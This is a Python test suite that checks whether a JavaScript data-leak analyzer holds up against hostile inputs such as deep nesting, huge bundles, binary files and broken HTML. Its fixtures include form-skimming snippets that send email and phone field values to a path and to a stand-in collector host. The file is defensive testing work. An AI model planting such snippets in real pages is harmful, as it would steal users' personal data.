"""Robustness of the real engine on hostile inputs: deep nesting, big one-line bundles, binary and badly
encoded files, symlink loops, syntax errors, oversized files, broken HTML, empty files; determinism and exit
codes through the CLI.

Anything that could take the interpreter down (stack overflow, segfault) or hang runs in a subprocess with a
timeout, so that it fails one test instead of killing pytest.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from analyzer.cli import main
from analyzer.engine import scan
from analyzer.model import ScanResult
from bench.bench import LEAKS, generate
from bench.deep import nested

REPO = Path(__file__).resolve().parents[1]

LEAK = ("document.getElementById('email').addEventListener('blur', function (e) "
        "{ fetch('/c?e=' + e.target.value); });\n")
LEAK_COL = LEAK.index("fetch(") + 1  # 74: column of the sink on the leak line

PAGE = """<!doctype html>
<html><head><title>Checkout</title></head><body>
<form id="checkout" action="/order" method="post">
  <label for="email">Email</label> <input type="email" id="email" name="email">
  <label for="tel">Phone</label> <input type="tel" id="tel" name="tel">
  <button type="submit">Order</button>
</form>
<script src="js/app.js"></script><script src="js/phone.js"></script>
</body></html>
"""
PHONE_LEAK = ("document.getElementById('tel').addEventListener('change', "
              "e => navigator.sendBeacon('https://collect.example.net/p', e.target.value));\n")


def write(root: Path, files: dict[str, str | bytes]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for rel, content in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            p.write_bytes(content)
        else:
            p.write_text(content, encoding="utf-8")
    return root


def the_leak(result: ScanResult, path: str):
    """The one finding for LEAK in `path`; fails unless there is exactly one finding there and it is LEAK's."""
    fs = [f for f in result.findings if f.sink.path == path]
    assert len(fs) == 1, [(f.sink.short(), f.sink_api) for f in result.findings]
    f = fs[0]
    assert (f.sink_api, f.categories, f.trigger_names) == ("fetch", ["email"], ["blur"])
    return f


def reasons(result: ScanResult) -> list[tuple[str, str]]:
    return [(n.path, n.reason) for n in result.notifications]


_CHILD = r"""
import json, sys
from pathlib import Path
sys.path.insert(0, sys.argv[2])
from analyzer.engine import scan
r = scan([Path(sys.argv[1])])
print(json.dumps({"type": type(r).__name__, "files": r.files_scanned, "complete": r.complete,
                  "notes": [[n.path, n.reason] for n in r.notifications],
                  "findings": [[f.sink.short(), f.sink_api, f.categories, f.trigger_names] for f in r.findings]}))
"""


def scan_in_subprocess(folder: Path, timeout: float) -> dict:
    t0 = time.perf_counter()
    try:
        p = subprocess.run([sys.executable, "-c", _CHILD, str(folder), str(REPO)], capture_output=True,
                           text=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        pytest.fail(f"scan of {folder.name} did not finish within {timeout} s")
    assert p.returncode == 0, (f"scan subprocess died with return code {p.returncode} "
                               f"(negative = signal) after {time.perf_counter() - t0:.1f} s:\n{p.stderr[-2000:]}")
    return json.loads(p.stdout.strip().splitlines()[-1])


# ------------------------------------------------------------------------------------------ deep nesting

DEPTH = 50_000


@pytest.mark.parametrize("kind", ["arrays", "parens", "functions", "anon-functions", "objects", "ifs"])
def test_deep_nesting_scans_without_crash(tmp_path, kind):
    """50,000 levels of one kind of nesting, then the known leak on the next line. `functions` are named
    declarations `function f(){function f(){…}}`; `anon-functions` is `function(){function(){…}}` as in
    minified code. The scan must not crash or hang (8 s: these files are 0.1-0.7 MB and take about 2 s
    when healthy) and must still analyse the line after the nesting."""
    code = nested(kind, DEPTH)
    assert code.count("[" if kind == "arrays" else "(" if kind == "parens" else "{") >= DEPTH
    write(tmp_path / "site", {"deep.js": code + "\n" + LEAK})
    r = scan_in_subprocess(tmp_path / "site", timeout=8)
    assert r["type"] == "ScanResult"
    assert r["files"] == ["deep.js"]
    assert r["findings"] == [[f"deep.js:2:{LEAK_COL}", "fetch", ["email"], ["blur"]]]


# ------------------------------------------------------------------------------------------ big bundle


def test_five_mb_one_line_bundle(tmp_path):
    code = generate(5.0, seed=7)
    assert "\n" not in code and 4_900_000 < len(code.encode()) < 5_200_000
    site = write(tmp_path / "site", {"bundle.min.js": code})
    t0 = time.perf_counter()
    r = scan([site], budget_seconds=120)
    took = time.perf_counter() - t0
    assert took < 60, f"5 MB bundle took {took:.1f} s"
    assert r.complete and r.files_scanned == ["bundle.min.js"]
    assert [n.reason for n in r.notifications] == []
    got = sorted((f.sink_api, tuple(f.categories), tuple(f.trigger_names)) for f in r.findings)
    want = sorted((x["sink_api"], (x["category"],), (x["trigger"],)) for x in LEAKS)
    assert got == want  # every embedded leak, and nothing from the (leak-free) filler modules
    fields = sorted(f for x in r.findings for f in x.fields)
    assert fields == ["#billing_email", "#cc-number", "input[name=phone]"]


# ------------------------------------------------------------------------------------------ odd files


def test_binary_file_is_skipped_and_scan_continues(tmp_path):
    site = write(tmp_path / "site", {"x.js": b"\x7fELF\x02\x01\x01\x00\x00\x00" + bytes(range(256)) * 4,
                                     "app.js": LEAK})
    r = scan([site])
    assert reasons(r) == [("x.js", "binary")]
    assert r.files_scanned == ["app.js"]
    the_leak(r, "app.js")


@pytest.mark.parametrize("prefix", [b"", "var ok = '\ufffd';\n".encode()], ids=["plain", "with-literal-U+FFFD"])
def test_invalid_utf8(tmp_path, prefix):
    """Invalid bytes on one line; the leak on a valid line is still found and the file is reported as not
    UTF-8 — also when the file happens to contain a (valid) U+FFFD character elsewhere."""
    data = prefix + b"var s = 'caf\xe9 \xff\xfe';\n" + LEAK.encode()
    site = write(tmp_path / "site", {"app.js": data})
    r = scan([site])
    assert reasons(r) == [("app.js", "invalid-utf8")]
    f = the_leak(r, "app.js")
    assert (f.sink.line, f.sink.col) == (data.count(b"\n"), LEAK_COL)


def test_symlink_loop(tmp_path):
    site = write(tmp_path / "site", {"app.js": LEAK, "sub/more.js": LEAK})
    os.symlink(site, site / "link")  # site/link -> site
    os.symlink("..", site / "sub" / "up")  # site/sub/up -> site
    r = scan_in_subprocess(site, timeout=30)
    assert r["notes"] == [["link", "symlink-loop"], ["sub/up", "symlink-loop"]]
    assert r["files"] == ["app.js", "sub/more.js"]
    assert [x[0] for x in r["findings"]] == [f"app.js:1:{LEAK_COL}", f"sub/more.js:1:{LEAK_COL}"]


def test_broken_symlink(tmp_path):
    site = write(tmp_path / "site", {"app.js": LEAK})
    os.symlink(site / "gone.js", site / "dead.js")
    r = scan([site])
    assert reasons(r) == [("dead.js", "broken-symlink")]
    assert r.files_scanned == ["app.js"]
    the_leak(r, "app.js")


def test_syntax_error_reported_and_rest_of_file_analysed(tmp_path):
    import tree_sitter
    import tree_sitter_javascript

    data = "let x = ;\nfunction ( { ]] ;\n" + LEAK + "if (\n"
    # precondition: tree-sitter recovers, i.e. the leak's line parses into an error-free statement
    tree = tree_sitter.Parser(tree_sitter.Language(tree_sitter_javascript.language())).parse(data.encode())
    stmt = [c for c in tree.root_node.children if c.start_point[0] == 2]
    assert len(stmt) == 1 and stmt[0].type == "expression_statement" and not stmt[0].has_error
    site = write(tmp_path / "site", {"app.js": data})
    r = scan([site])
    assert reasons(r) == [("app.js", "syntax-error")]
    assert r.notifications[0].level == "warning"
    f = the_leak(r, "app.js")
    assert (f.sink.line, f.sink.col) == (3, LEAK_COL)


def test_too_large(tmp_path, monkeypatch):
    monkeypatch.setattr("analyzer.discover.MAX_BYTES", 1000)
    site = write(tmp_path / "site", {"big.js": LEAK + "var pad = 0;\n" * 100, "app.js": LEAK})
    assert (site / "big.js").stat().st_size > 1000 >= (site / "app.js").stat().st_size
    r = scan([site])
    assert reasons(r) == [("big.js", "too-large")]
    assert r.files_scanned == ["app.js"]
    the_leak(r, "app.js")


BROKEN_HTML = {
    "unclosed.html": ('<html><body><form id="f"><div><p><input id="email" type="email" name="email">'
                      '<select><option>1<option>2<textarea>free text <b><i></table></td></form></form>'),
    "garbage.html": "<<<>>><html <body =\"\" <<input type=>>>&&&;&#xZZZ;&#99999999;</ </ >< !-- -- >" * 20,
    "unterminated.html": '<!doctype html><html><!-- never closed <script>var a = 1;',
    "script-open.html": '<html><body><input id="email"><script>var a = "</scr" + "ipt>"; if (a) {',
    "attrs.html": '<input id="email" value="x\x01\x02" onblur="fetch(\'/c?e=\' + this.value" <a href="',
    "cdata.html": "<![CDATA[ <svg><foreignObject><math><mi><![CDATA[ x ]]></svg>\udfff".encode(
        "utf-8", "surrogatepass").decode("utf-8", "replace"),
}


def test_broken_html_does_not_crash(tmp_path):
    site = write(tmp_path / "site", {**BROKEN_HTML, "js/app.js": LEAK})
    (site / "bytes.html").write_bytes(bytes(range(1, 256)) * 8)
    r = scan([site])
    assert isinstance(r, ScanResult)
    assert [x for x in reasons(r) if x[1] == "html-error"] == []
    assert set(BROKEN_HTML) | {"bytes.html", "js/app.js"} <= set(r.files_scanned)
    the_leak(r, "js/app.js")


def test_empty_comment_only_and_bom_files(tmp_path):
    site = write(tmp_path / "site", {
        "empty.js": b"", "empty.html": b"", "bom-only.js": b"\xef\xbb\xbf",
        "comments.js": "// just a comment\n/* and a block\n   comment */\n/** doc */ // trailing\n",
        "comments.html": "<!-- nothing here -->\n",
        "bom.js": b"\xef\xbb\xbf" + LEAK.encode(),
    })
    r = scan([site])
    assert r.notifications == []
    assert r.files_scanned == ["bom-only.js", "bom.js", "comments.html", "comments.js", "empty.html", "empty.js"]
    f = the_leak(r, "bom.js")
    assert f.sink.line == 1
    assert len(r.findings) == 1


def test_bom_does_not_shift_columns(tmp_path):
    """A UTF-8 byte order mark is an encoding signature, not text: editors, ESLint and code-scanning viewers
    do not count it, so the sink on line 1 must be reported at the same column with and without it."""
    site = write(tmp_path / "site", {"bom.js": b"\xef\xbb\xbf" + LEAK.encode(), "plain.js": LEAK})
    r = scan([site])
    cols = {f.sink.path: (f.sink.col, f.sink.end_col) for f in r.findings}
    assert cols["plain.js"][0] == LEAK_COL
    assert cols["bom.js"] == cols["plain.js"]


# ------------------------------------------------------------------------------------------ CLI


def _site_files() -> dict[str, str]:
    return {"index.html": PAGE, "js/app.js": "// app\n" + LEAK, "js/phone.js": PHONE_LEAK,
            "js/util.js": "export const add = (a, b) => a + b;\n", "b/other.js": LEAK, "a/z.js": LEAK}


def _report(site: Path, out: Path, fmt: str) -> bytes:
    assert main(["scan", str(site), "--format", fmt, "--output", str(out), "--quiet", "--no-progress"]) == 1
    return out.read_bytes()


def test_deterministic_output(tmp_path):
    site = tmp_path / "site"
    files = _site_files()
    outs = []
    for order in (list(files), list(reversed(files)), list(files)):
        if site.exists():
            shutil.rmtree(site)
        for rel in order:  # same content, different creation (and directory entry) order
            write(site, {rel: files[rel]})
        outs.append({fmt: _report(site, tmp_path / f"r{len(outs)}.{fmt}", fmt) for fmt in ("sarif", "json")})
    data = json.loads(outs[0]["json"])
    assert len(data["findings"]) == 4
    assert len(json.loads(outs[0]["sarif"])["runs"][0]["results"]) == 4
    assert outs[0] == outs[1] == outs[2]


def test_exit_codes(tmp_path, capsys):
    leak = write(tmp_path / "leak", {"app.js": LEAK})
    clean = write(tmp_path / "clean", {"app.js": "document.title = 'x';\n", "index.html": PAGE})
    assert main(["scan", str(leak), "--no-progress"]) == 1
    assert main(["scan", str(clean), "--no-progress"]) == 0
    assert main(["scan", str(tmp_path / "does-not-exist"), "--no-progress"]) == 2
    err = capsys.readouterr().err
    assert "path not found" in err
